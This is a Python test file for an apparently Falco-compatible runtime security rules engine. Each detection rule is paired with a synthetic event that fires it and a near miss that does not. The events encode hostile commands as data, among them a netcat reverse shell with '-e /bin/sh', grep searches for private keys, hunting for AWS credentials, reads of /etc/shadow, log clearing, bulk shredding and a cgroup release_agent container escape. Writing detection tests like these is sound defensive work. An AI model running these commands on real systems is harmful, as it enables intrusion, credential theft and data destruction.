"""Each stable upstream rule (``falco_rules.yaml``) with an event of our own that fires it and a near miss
that does not; plus "Write below etc" from the sandbox file.  Events are written as a sensor would emit
them (docs/events.md)."""

from __future__ import annotations

from typing import Any

import pytest

from stockade.runtime.rules.engine import Engine
from stockade.runtime.rules.ruleset import Ruleset

HOST = {"container.id": "host", "user.name": "root", "user.uid": 0, "user.loginuid": -1}
CTR = {
    "container.id": "3ad7b26ded6d",
    "container.image.repository": "docker.io/library/alpine",
    "user.name": "root",
    "user.uid": 0,
}


def ev(base: dict[str, Any], **kw: Any) -> dict[str, Any]:
    """``base`` plus ``kw`` whose names spell field keys with ``__`` for ``.`` (``fd__name``)."""
    out = dict(base)
    for k, v in kw.items():
        out[k.replace("__", ".")] = v
    return out


def exec_(base: dict[str, Any], name: str, args: list[str], parents: list[str], **kw: Any) -> dict[str, Any]:
    fields: dict[str, Any] = {
        "evt__type": "execve",
        "proc__name": name,
        "proc__exe": f"/bin/{name}",
        "proc__exepath": f"/bin/{name}",
        "proc__args": args,
        "proc__ancestors": [{"name": p, "exe": f"/usr/bin/{p}"} for p in parents],
    }
    fields.update(kw)
    return ev(base, **fields)


def open_(
    base: dict[str, Any], proc: str, path: str, flags: str, parent: str = "bash", **kw: Any
) -> dict[str, Any]:
    return ev(
        base,
        evt__type="openat",
        proc__name=proc,
        proc__ancestors=[{"name": parent}, {"name": "sshd"}],
        fd__name=path,
        fd__type="file",
        fd__num=3,
        evt__args={"flags": flags},
        **kw,
    )


R, W = "O_RDONLY|O_CLOEXEC", "O_WRONLY|O_CREAT|O_TRUNC"
CONNECT = {
    "evt__type": "connect",
    "fd__type": "ipv4",
    "fd__l4proto": "tcp",
    "evt__rawres": 0,
    "fd__cip": "10.0.0.5",
}

K8S_CONNECT = {**CONNECT, "proc__name": "curl", "fd__sip": "10.96.0.1", "fd__sport": 443}

CASES: list[tuple[str, dict[str, Any], dict[str, Any]]] = [
    (
        "Terminal shell in container",
        exec_(CTR, "bash", [], ["runc:[1:CHILD]"], proc__tty=34816),
        exec_(CTR, "bash", [], ["runc:[1:CHILD]"], proc__tty=0),
    ),
    (
        "Read sensitive file untrusted",
        open_(HOST, "cat", "/etc/shadow", R),
        open_(HOST, "passwd", "/etc/shadow", R),
    ),
    (
        "Read sensitive file trusted after startup",
        open_(HOST, "nginx", "/etc/shadow", R, proc__duration=60_000_000_000),
        open_(HOST, "nginx", "/etc/shadow", R, proc__duration=1_000_000_000),
    ),
    (
        "Directory traversal monitored file read",
        open_(HOST, "php", "/etc/passwd", R, "php-fpm", fd__nameraw="/var/www/../../etc/passwd"),
        open_(HOST, "php", "/etc/passwd", R, "php-fpm", fd__nameraw="/etc/passwd"),
    ),
    (
        "Run shell untrusted",
        exec_(HOST, "sh", ["-c", "id"], ["nginx", "nginx", "systemd"]),
        exec_(HOST, "sh", ["-c", "id"], ["bash", "sshd", "systemd"]),
    ),
    (
        "System user interactive",
        exec_(ev(HOST, user__name="www-data"), "ls", [], ["bash", "sshd"]),
        exec_(ev(HOST, user__name="alice"), "ls", [], ["bash", "sshd"]),
    ),
    (
        "Contact K8S API Server From Container",
        ev(CTR, **K8S_CONNECT, fd__sip__name="kubernetes.default.svc.cluster.local"),
        ev(CTR, **K8S_CONNECT, fd__sip__name="example.com"),
    ),
    (
        "Netcat Remote Code Execution in Container",
        exec_(CTR, "nc", ["-e", "/bin/sh", "10.0.0.1", "4444"], ["bash"]),
        exec_(CTR, "nc", ["10.0.0.1", "4444"], ["bash"]),
    ),
    (
        "Search Private Keys or Passwords",
        exec_(HOST, "grep", ["-r", "BEGIN RSA PRIVATE", "/home"], ["bash"]),
        exec_(HOST, "grep", ["-r", "TODO", "/home"], ["bash"]),
    ),
    (
        "Clear Log Activities",
        open_(HOST, "bash", "/var/log/syslog", W),
        open_(HOST, "bash", "/var/log/syslog", "O_WRONLY|O_APPEND"),
    ),
    (
        "Remove Bulk Data from Disk",
        exec_(HOST, "shred", ["-u", "/data/db"], ["bash"]),
        exec_(HOST, "rm", ["-f", "/tmp/x"], ["bash"]),
    ),
    (
        "Create Symlink Over Sensitive Files",
        ev(
            HOST,
            evt__type="symlinkat",
            proc__name="ln",
            evt__args={"target": "/etc/shadow", "linkpath": "/tmp/s"},
        ),
        ev(
            HOST,
            evt__type="symlinkat",
            proc__name="ln",
            evt__args={"target": "/etc/hosts", "linkpath": "/tmp/s"},
        ),
    ),
    (
        "Create Hardlink Over Sensitive Files",
        ev(
            HOST,
            evt__type="linkat",
            proc__name="ln",
            evt__args={"oldpath": "/etc/shadow", "newpath": "/tmp/s"},
        ),
        ev(
            HOST,
            evt__type="linkat",
            proc__name="ln",
            evt__args={"oldpath": "/etc/hosts", "newpath": "/tmp/s"},
        ),
    ),
    (
        "Packet socket created in container",
        ev(CTR, evt__type="socket", proc__name="scapy", evt__args={"domain": "AF_PACKET"}),
        ev(CTR, evt__type="socket", proc__name="curl", evt__args={"domain": "AF_INET"}),
    ),
    (
        "Redirect STDOUT/STDIN to Network Connection in Container",
        ev(CTR, evt__type="dup2", proc__name="bash", evt__rawres=1, fd__type="ipv4"),
        ev(CTR, evt__type="dup2", proc__name="bash", evt__rawres=1, fd__type="file"),
    ),
    (
        "Linux Kernel Module Injection Detected",
        ev(CTR, evt__type="finit_module", proc__name="insmod", thread__cap_effective="CAP_SYS_MODULE"),
        ev(CTR, evt__type="finit_module", proc__name="insmod", thread__cap_effective="CAP_CHOWN"),
    ),
    (
        "Debugfs Launched in Privileged Container",
        exec_(ev(CTR, container__privileged=True), "debugfs", ["/dev/sda1"], ["bash"]),
        exec_(ev(CTR, container__privileged=False), "debugfs", ["/dev/sda1"], ["bash"]),
    ),
    (
        "Detect release_agent File Container Escapes",
        open_(CTR, "sh", "/sys/fs/cgroup/x/release_agent", W, thread__cap_effective="CAP_SYS_ADMIN"),
        open_(CTR, "sh", "/sys/fs/cgroup/x/release_agent", W, thread__cap_effective="CAP_CHOWN"),
    ),
    (
        "PTRACE attached to process",
        ev(HOST, evt__type="ptrace", proc__name="gdb", evt__args={"request": "PTRACE_ATTACH"}),
        ev(HOST, evt__type="ptrace", proc__name="gdb", evt__args={"request": "PTRACE_PEEKDATA"}),
    ),
    (
        "PTRACE anti-debug attempt",
        ev(HOST, evt__type="ptrace", proc__name="mal", evt__args={"request": "PTRACE_TRACEME"}),
        ev(HOST, evt__type="ptrace", proc__name="mal", evt__args={"request": "PTRACE_CONT"}),
    ),
    (
        "Find AWS Credentials",
        exec_(HOST, "find", ["/", "-path", "*/.aws/credentials"], ["bash"]),
        exec_(HOST, "find", ["/", "-name", "*.py"], ["bash"]),
    ),
    (
        "Execution from /dev/shm",
        exec_(HOST, "x", [], ["bash"], proc__exe="/dev/shm/x"),
        exec_(HOST, "x", [], ["bash"], proc__exe="/tmp/x"),
    ),
    (
        "Drop and execute new binary in container",
        exec_(CTR, "miner", [], ["sh"], proc__is_exe_upper_layer=True),
        exec_(CTR, "miner", [], ["sh"], proc__is_exe_upper_layer=False),
    ),
    (
        "Disallowed SSH Connection Non Standard Port",
        ev(
            HOST,
            **CONNECT,
            proc__name="ssh",
            proc__exe="/usr/bin/ssh",
            fd__sip="93.184.216.34",
            fd__sport=443,
        ),
        ev(
            HOST, **CONNECT, proc__name="ssh", proc__exe="/usr/bin/ssh", fd__sip="93.184.216.34", fd__sport=22
        ),
    ),
    (
        "Fileless execution via memfd_create",
        exec_(HOST, "x", [], ["bash"], proc__is_exe_from_memfd=True),
        exec_(HOST, "x", [], ["runc"], proc__is_exe_from_memfd=True),
    ),
]


def test_every_stable_rule_has_a_case(stable_rules: Ruleset) -> None:
    assert {c[0] for c in CASES} == {r.name for r in stable_rules.rules}


@pytest.mark.parametrize(("rule", "hit", "miss"), CASES, ids=[c[0] for c in CASES])
def test_stable_rule_fires_and_near_miss_does_not(
    stable_rules: Ruleset, rule: str, hit: dict[str, Any], miss: dict[str, Any]
) -> None:
    engine = Engine(stable_rules, rule_matching="all", hostname="h")
    assert rule in [r.name for r in engine.match(dict(hit))]
    assert rule not in [r.name for r in engine.match(dict(miss))]
    assert engine.errors == 0


def test_write_below_etc_from_the_sandbox_file(all_rules: Ruleset) -> None:
    engine = Engine(all_rules, rule_matching="all", hostname="h")
    hit = open_(HOST, "vim", "/etc/passwd", W)
    assert "Write below etc" in [r.name for r in engine.match(hit)]
    assert "Write below etc" not in [r.name for r in engine.match(open_(HOST, "vim", "/etc/passwd", R))]
    assert "Write below etc" not in [r.name for r in engine.match(open_(HOST, "dpkg", "/etc/passwd", W))]


def test_alert_has_falcos_json_shape(stable_rules: Ruleset) -> None:
    engine = Engine(stable_rules, rule_matching="first", hostname="node-1")
    hit = open_(HOST, "cat", "/etc/shadow", R, evt__time=1_700_000_000_123_456_789)
    (alert,) = engine.alerts(hit)
    d = alert.to_dict()
    assert set(d) == {"time", "rule", "priority", "output", "output_fields", "source", "tags", "hostname"}
    assert d["time"] == "2023-11-14T22:13:20.123456789Z"
    assert d["priority"] == "Warning" and d["source"] == "syscall" and d["hostname"] == "node-1"
    assert d["output"].startswith("2023-11-14T22:13:20.123456789Z: Warning Sensitive file opened for reading")
    assert (
        "file=/etc/shadow" in d["output"] and "parent=bash" in d["output"] and "gparent=sshd" in d["output"]
    )
    assert d["output_fields"]["fd.name"] == "/etc/shadow"
    assert d["output_fields"]["proc.aname[2]"] == "sshd"
    assert d["output_fields"]["proc.aname[4]"] is None and "gggparent=<NA>" in d["output"]


def test_index_only_runs_rules_for_the_event_type(all_rules: Ruleset) -> None:
    engine = Engine(all_rules, rule_matching="all", hostname="h")
    execve = set(engine.rules_for("execve"))
    assert "Terminal shell in container" in execve
    assert "Read sensitive file untrusted" not in execve
    assert engine.rules_for("close") == []
